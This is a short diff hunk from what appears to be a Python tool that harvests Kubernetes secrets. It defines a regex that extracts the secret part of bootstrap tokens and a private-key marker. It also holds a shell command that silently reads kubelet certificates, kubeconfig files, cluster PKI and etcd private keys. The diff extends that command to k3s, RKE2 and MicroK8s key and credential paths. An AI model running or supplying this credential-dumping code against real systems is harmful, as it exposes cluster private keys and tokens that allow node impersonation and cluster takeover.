@@ -24,7 +24,8 @@ TOKEN = re.compile(r"token:\s*[a-z0-9]{6}\.([a-z0-9]{16})")
 MARKER = "PRIVATE KEY-----"
 READ = (
     "cat /var/lib/kubelet/*/*.pem /etc/kubernetes/*.conf /etc/kubernetes/pki/*.key /etc/kubernetes/pki/etcd/*.key "
-    "2>/dev/null || :"
+    "/srv/k3s/agent/*.key /var/lib/rancher/rke2/agent/*.key /var/snap/microk8s/9044/certs/*.key "
+    "/var/snap/microk8s/9044/credentials/* 2>/dev/null || :"
 )
 
 
